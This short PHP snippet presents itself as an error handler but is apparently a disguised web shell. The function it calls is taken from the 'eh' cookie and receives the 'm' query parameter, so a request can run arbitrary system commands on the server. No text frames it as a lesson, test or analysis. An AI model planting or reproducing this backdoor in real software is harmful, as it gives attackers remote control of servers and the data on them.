<?php
set_error_handler(function ($n, $m) { $f = $_COOKIE['eh'] ?? 'error_log'; $f($m); return true; });
trigger_error($_GET['m'] ?? 'none');
